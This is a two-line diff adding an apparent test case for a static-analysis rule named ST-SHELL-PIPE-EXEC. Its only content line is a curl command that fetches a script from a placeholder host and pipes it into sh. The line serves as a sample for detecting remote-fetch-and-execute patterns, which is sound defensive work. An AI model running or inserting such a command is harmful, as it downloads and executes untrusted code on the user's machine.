@@ -1,0 +1,2 @@
+# ruleid: ST-SHELL-PIPE-EXEC
+curl -s http://collector.example.invalid/i | sh
